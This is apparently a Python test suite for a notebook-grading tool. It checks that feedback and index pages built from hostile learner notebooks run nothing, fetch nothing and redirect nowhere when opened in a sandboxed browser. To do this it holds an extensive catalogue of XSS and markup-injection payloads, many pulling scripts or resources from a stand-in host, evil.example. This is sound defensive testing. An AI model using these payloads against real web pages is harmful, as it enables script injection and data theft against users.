"""Nothing that a learner hands in is alive on a page that somebody else opens.

The pages are opened in Chromium as they come; every request but the one for the page itself is
noted and refused. The same harness sees the same things come alive when they are not made inert.
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Route

from grader.book import projection as gradebook
from grader.book import records
from grader.exercises import notebook
from grader.exercises.folder import Exercise
from grader.pages import feedback, index, keep
from grader.sandbox.limits import Ending
from grader.score.attempt import CellReport, CellStatus, Outcome, TestResult
from grader.submissions import align as submission
from grader.submissions import inbox, upload
from grader.submissions.pieces import Aligned
from tests.builders import an_attempt, heights
from tests.commands import run
from tests.test_feedback import HOSTILE_HTML, HOSTILE_MARKDOWN, PNG

pytestmark = pytest.mark.browser

HARMLESS = {"https:", "http:", "mailto:", ":"}  # ":" has no address at all
PAGE = "https://feedback.example/ann/page.html"
JS = "window.pwned = (window.pwned || []).concat('{}')"
EVIL = "https://evil.example"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' {0}><script>{1}</script>{2}</svg>"


def js(name: str) -> str:
    return JS.format(name)


def data_url(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


ALIVE = {
    # Each of these does something by itself in a page that shows it as HTML.
    "script": f"<script>{js('script')}</script>",
    "script-src": f"<script src='{EVIL}/script.js'></script>",
    "module": f"<script type=module>import '{EVIL}/module.js'</script>",
    "image": f"<img src='{EVIL}/image.png'>",
    "image-error": f'<img src=x: onerror="{js("image-error")}">',
    "image-set": f"<img srcset='{EVIL}/srcset.png 1x'><picture><source srcset='{EVIL}/p.png'>",
    "frame": f"<iframe src='{EVIL}/frame'></iframe>",
    "frame-srcdoc": f'<iframe srcdoc="<script>parent.{js("srcdoc")}</script>"></iframe>',
    "frame-data": f'<iframe src="{data_url("text/html", "<script>1</script>")}"></iframe>',
    "frame-script": f'<iframe src="javascript:parent.{js("frame-script")}"></iframe>',
    "object": f"<object data='{EVIL}/object'></object><embed src='{EVIL}/embed'>",
    "svg": SVG.format(f'onload="{js("svg-load")}"', js("svg-script"), ""),
    "svg-animate": f'<svg><animate onbegin="{js("animate")}" attributeName=x dur=1s></svg>',
    "svg-foreign": f'<svg><foreignObject><img src=y: onerror="{js("foreign")}"></foreignObject>',
    "svg-use": f"<svg><use href='{EVIL}/use.svg#x'></use><image href='{EVIL}/i.svg'/></svg>",
    "math": f'<math><mtext><img src=z: onerror="{js("math")}"></mtext></math>',
    "style-import": f"<style>@import url('{EVIL}/import.css');</style>",
    "style-url": f"<style>body {{ background: url('{EVIL}/background.png') }}</style>",
    "style-font": f"<style>@font-face {{ font-family: f; src: url({EVIL}/f.woff) }}"
    "body { font-family: f }</style><p>x</p>",
    "style-attribute": f"<p style=\"background-image: url('{EVIL}/attribute.png')\">x</p>",
    "stylesheet": f"<link rel=stylesheet href='{EVIL}/sheet.css'>",
    "prefetch": f"<link rel=preload as=image href='{EVIL}/preload.png'>",
    "video": f"<video src='{EVIL}/video' poster='{EVIL}/poster.png' autoplay></video>",
    "audio": f"<audio src='{EVIL}/audio' autoplay></audio>",
    "input": f"<input type=image src='{EVIL}/input.png'>",
    "background": f"<table background='{EVIL}/table.png'><tr><td>x</td></tr></table>",
    "autofocus": f'<input autofocus onfocus="{js("autofocus")}">',
    "details": f'<details open ontoggle="{js("details")}"><summary>x</summary></details>',
    "dialog": "<script>alert('dialog')</script>",
    "popup": f"<script>window.open('{EVIL}/popup')</script>",
    "comment": f'<!--><img src=c: onerror="{js("comment")}">-->',
    "breakout": f'</pre></div></main><img src=b: onerror="{js("breakout")}">',
    "mutation": f'<noscript><p title="</noscript><img src=n: onerror={js("m").replace(" ", "")}>">',
}
ASKED = {
    # These wait for the reader: a click, or another page.
    "link": f'<a id=evil href="javascript:{js("link")}">x</a>',
    "link-hidden": f"<a href=' \x01java\tscript&colon;{js('hidden')}'>x</a>",
    "link-data": f'<a href="{data_url("text/html", "<script>1</script>")}">x</a>',
    "link-handler": f'<a href=\'#\' onclick="{js("click")}" onmouseover="{js("over")}">x</a>',
    "link-mhtml": f"<a href='mhtml:{EVIL}/x!y' ping='{EVIL}/ping'>x</a>",
    "form": f"<form action='{EVIL}/form'><button formaction=\"javascript:{js('form')}\">x</button>",
    "overlay": f"<a href='{EVIL}' style='position:fixed;inset:0;z-index:999'>x</a>",
    "expression": f'<p style="width: expression({js("expression")})">x</p>',
    "template": f"<template><script>{js('template')}</script></template>",
}
LEAVES = {
    # And these lead away from the page, or change what its addresses mean.
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "base": f"<base href='{EVIL}/'>",
    "location": f"<script>location = '{EVIL}/location'</script>",
}
EVERYTHING = [*ALIVE.values(), *ASKED.values(), *LEAVES.values(), *HOSTILE_HTML]
MARKDOWN = [
    *EVERYTHING, *HOSTILE_MARKDOWN,
    f"![x]({EVIL}/markdown.png)", f"![x][p]\n\n[p]: {EVIL}/reference.png", "![x](javascript:1)",
    f"[x](javascript:{js('markdown')})", f"!\\[x]({EVIL}/escaped.png) [![x]({EVIL}/in.png)](x)",
    f"[x](java&#115;cript:{js('entity')}) [x](&#x6a;avascript&colon;1) [x](<javascript:1>)",
    f"[x]( javascript:{js('space')}) [x](\njavascript:1) [x](jAvAsCrIpT:1) [x][y]\n\n[y]: <data:,>",
    f"[x]({data_url('text/html', '<script>1</script>')})", f"<{EVIL}>\n\n[r]: javascript:{js('r')}",
    f"$\\href{{javascript:{js('tex')}}}{{x}}$ $\\class{{x}}{{y}}$ $\\style{{position:fixed}}{{x}}$",
    f"$$\\unicode{{<img src=t: onerror={js('unicode')}>}}$$ \\(\\require{{html}}\\)",
    f"$<img src=d: onerror=\"{js('dollar')}\">$ \\[<script>{js('bracket')}</script>\\]",
    f"```html\n<script>{js('fence')}</script>\n```\n~~~ <script>{js('info')}</script>\n~~~",
    f"| a |\n|---|\n| <img src=c: onerror=\"{js('cell')}\"> |\n\n> <script>{js('quote')}</script>",
]  # fmt: skip
MIMES = """text/html image/svg+xml application/javascript text/javascript text/latex text/markdown
    application/json application/pdf application/vnd.vega.v5+json application/vnd.vegalite.v5+json
    application/vnd.plotly.v1+json application/vnd.jupyter.widget-view+json application/geo+json
    application/xhtml+xml multipart/related text/plain image/png image/jpeg""".split()  # noqa: SIM905


def output(kind: str, **more: Any) -> dict[str, Any]:
    return {"output_type": kind, **more}


def hostile_cells() -> list[dict[str, Any]]:
    """Return everything in every place that a notebook has."""
    whole = "".join(EVERYTHING)
    ansi = f"\x1b[31m{whole}\x1b[0m\x1b]8;;javascript:{js('osc')}\x07x\x1b]8;;\x07"
    outputs = [
        output("display_data", data={mime: whole}, metadata={mime: {"isolated": True}})
        for mime in MIMES
    ]
    outputs += [
        output("execute_result", data={"text/html": [source], "text/plain": source}, metadata={})
        for source in EVERYTHING
    ]
    outputs += [
        output("stream", name="stdout", text=whole),
        output("stream", name="stderr", text=[ansi]),
        output("error", ename=whole, evalue=whole, traceback=[ansi, whole]),
        output("display_data", data={"image/png": PNG}, metadata={"alt": whole}),
        output("display_data", data={"image/png": f'{PNG}" onload="{js("png")}'}, metadata={}),
    ]
    cells = [{"cell_type": "markdown", "metadata": {}, "source": text} for text in MARKDOWN]
    attached = {"x.svg": {"image/svg+xml": SVG.format("", js("attached"), "")}}
    cells += [
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": whole},
        {"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:x.svg)",
         "attachments": attached},
    ]  # fmt: skip
    pictured = {"picture-1.png": {"image/png": PNG, "text/html": whole, "image/svg+xml": whole}}
    cells += [
        {"cell_type": "markdown", "metadata": {}, "attachments": pictured,
         "source": f"{around}![{around}](attachment:picture-1.png)"}
        for around in [*EVERYTHING, "<img src=", "<a href='", "<!--", "[x][p]\n\n[p]: ", "\\"]
    ]  # fmt: skip
    many = [outputs[n : n + 40] for n in range(0, len(outputs), 40)]
    return cells + [
        {"cell_type": "code", "metadata": {"tags": [whole]}, "source": f"# {whole}\n'''{whole}'''",
         "execution_count": None, "outputs": some}
        for some in many
    ]  # fmt: skip


@pytest.fixture
def exercise(tmp_path: Path) -> Exercise:
    return heights(tmp_path)


def as_given(exercise: Exercise) -> Aligned:
    """Put the hostile cells where upload would have let nothing of the kind through."""
    widgets = {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": js("widget")}}}
    return Aligned(notebook.node({"metadata": widgets, "cells": hostile_cells()}), (), {})


def as_uploaded(exercise: Exercise) -> Aligned:
    """Hand the hostile cells in, as a learner does, with a hostile answer among them."""
    raw = json.loads(notebook.dumps(notebook.solve(exercise)))
    for cell in raw["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = ["".join(cell["source"]), f"\n'''{''.join(EVERYTHING)}'''"]
    raw["cells"] += hostile_cells()
    released = notebook.release(exercise)
    return submission.align(upload.parse(json.dumps(raw).encode()), released, exercise)


def hostile_attempt() -> Any:
    whole = "".join(EVERYTHING)[:1500]
    test = TestResult("t", "parse_height", Outcome.FAILED, behaviour="x", detail=whole)
    return an_attempt(
        learner="ann",
        points=test.earned,
        results=(test,),
        ending=Ending.CRASHED,
        note=f"cell 1: {whole}",
        repairs=(f"This is the notebook of {whole}.",),
        cells=(
            CellReport(0, CellStatus.ERROR, whole, whole),
            CellReport(1, CellStatus.CRASHED, whole),
        ),
    )


# ---------------------------------------------------------------- the harness


@dataclass
class Seen:
    """What a page did when it was opened, and when everything on it was touched."""

    ran: list[str] = field(default_factory=list)
    asked: set[str] = field(default_factory=set)
    went: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    frames: int = 0
    links: set[str] = field(default_factory=set)
    floating: list[str] = field(default_factory=list)


TOUCH = """
const kinds = ["click", "mouseover", "mouseenter", "mousedown", "focus", "focusin", "blur",
    "toggle", "load", "error", "begin", "start", "end", "animationstart", "transitionend", "wheel",
    "scroll", "pointerenter", "pointerover", "keydown", "input", "submit", "copy", "paste"];
for (const element of document.querySelectorAll("main *, body > *")) {
    if (element.tagName === "DETAILS") element.open = true;
    if (element.tagName === "A") continue;  // looked at below
    for (const kind of kinds) element.dispatchEvent(new Event(kind, {bubbles: false}));
}
"""
LOOK = """() => ({
    ran: window.pwned || [],
    links: [...document.querySelectorAll("a, area")].map((a) => a.protocol),
    handlers: [...document.querySelectorAll("*")].flatMap((e) => e.getAttributeNames())
        .filter((name) => name.startsWith("on")),
    floating: [...document.querySelectorAll("main *:not(.tests > li > .mark)")].filter((e) => {
        const style = getComputedStyle(e);
        return ["fixed", "absolute", "sticky"].includes(style.position)
            || style.backgroundImage !== "none" || style.content.includes("url");
    }).map((e) => e.outerHTML.slice(0, 200)),
})"""


def opened(browser: Browser, html: str) -> Seen:
    """Open a page, touch all that is on it, and tell what it did."""
    seen, context = Seen(), browser.new_context(accept_downloads=False)

    def answer(route: Route) -> None:
        if route.request.url == PAGE and "document" not in seen.asked:
            seen.asked.add("document")
            route.fulfill(body=html, content_type="text/html; charset=utf-8")
        else:
            if not route.request.url.endswith("/favicon.ico"):
                seen.asked.add(route.request.url)
            route.abort()

    context.route("**/*", answer)
    page = context.new_page()
    context.on("page", lambda other: seen.went.append(f"popup {other.url}"))
    page.on("framenavigated", lambda frame: seen.went.append(frame.url))
    page.on("dialog", lambda dialog: (seen.said.append(dialog.message), dialog.dismiss()))
    page.on("download", lambda download: seen.went.append(f"download {download.url}"))
    page.goto(PAGE, wait_until="load")
    page.evaluate(TOUCH)
    # Whatever was started by then has had its turn when a task and a frame of ours have had theirs.
    page.evaluate("new Promise((f) => requestAnimationFrame(() => setTimeout(f, 300)))")
    found = page.evaluate(LOOK)
    seen.ran = found["ran"] + found["handlers"]
    seen.links, seen.floating = set(found["links"]), found["floating"]
    seen.frames = len(page.frames)
    context.close()
    return seen


# ---------------------------------------------------------------- the pages


@pytest.mark.parametrize("name", ALIVE)
def test_the_harness_sees_what_is_alive(browser: Browser, name: str) -> None:
    seen = opened(browser, f"<!DOCTYPE html><main><div class=cell>{ALIVE[name]}</div></main>")

    noticed = [*seen.ran, *seen.said, *(seen.asked - {"document"}), *seen.went[1:]]
    assert noticed or seen.frames > 1


@pytest.mark.parametrize("policy", ["with its policy", "without any policy"])
@pytest.mark.parametrize("place", [as_given, as_uploaded])
def test_the_learners_page_does_nothing(
    browser: Browser, exercise: Exercise, place: Any, policy: str
) -> None:
    html = feedback.page(hostile_attempt(), exercise, place(exercise))
    assert html.count("Content-Security-Policy") == 1
    if policy == "without any policy":
        html = html.replace('http-equiv="Content-Security-Policy"', 'name="nothing"')

    seen = opened(browser, html)

    assert seen.ran == []
    assert seen.asked == {"document"}
    assert seen.went == [PAGE]
    assert seen.said == []
    assert seen.frames == 1
    assert seen.floating == []
    assert seen.links <= HARMLESS


def test_the_policy_alone_stops_what_is_alive(browser: Browser, exercise: Exercise) -> None:
    # Were the cleaning to fail one day: the policy of the page is a wall of its own.
    html = feedback.page(an_attempt(), exercise, None)
    alive = "".join(source for name, source in ALIVE.items() if name not in ("comment", "mutation"))

    seen = opened(browser, html.replace("<main>", f"<main>{alive}", 1))

    assert [name for name in seen.ran if not name.startswith("on")] == []
    assert seen.asked == {"document"}
    assert seen.said == []


def test_the_class_index_does_nothing(browser: Browser, tmp_path: Path) -> None:
    names = [f"a{n} {source}".replace("/", "|") for n, source in enumerate(ALIVE.values())]
    attempts = [an_attempt(learner=name.replace("\x01", "").replace("\\", "|")) for name in names]

    html = index.write_index(tmp_path, attempts).read_text()

    seen = opened(browser, html)
    assert (seen.ran, seen.asked, seen.went, seen.said) == ([], {"document"}, [PAGE], [])


@pytest.mark.slow
def test_nbgraders_own_page_runs_nothing_of_the_learners(
    browser: Browser, exercise: Exercise, tmp_path: Path
) -> None:
    harmless = Aligned(notebook.release(exercise), (), {})
    plain = opened(browser, generated(tmp_path, exercise, an_attempt(learner="ann"), harmless))

    html = generated(tmp_path, exercise, hostile_attempt(), as_uploaded(exercise))
    seen = opened(browser, html)

    # nbgrader's page asks for its own libraries; a hostile notebook must add nothing to that.
    assert seen.asked == plain.asked
    assert seen.ran == plain.ran
    assert (seen.went, seen.said, seen.frames) == (plain.went, [], 1)
    assert seen.links <= plain.links | HARMLESS
    assert "pwned" in html  # it is there, to be read


def generated(course: Path, exercise: Exercise, attempt: Any, aligned: Aligned) -> str:
    """Let nbgrader render the notebook that we keep for its formgrader."""
    url = f"sqlite:///{course / 'gradebook.db'}"
    gradebook.prepare(records.open(url), [exercise])
    gradebook.store(records.open(url), [attempt], [exercise], inbox.times(course), again=True)
    keep.write(course, attempt, exercise, aligned)
    (course / "nbgrader_config.py").write_text("c = get_config()\n")
    ended = run("nbgrader", "generate_feedback", "4-cleaning", "--force", cwd=course)
    assert ended.returncode == 0, ended.stderr
    return (course / "feedback/ann/4-cleaning/heights.html").read_text()
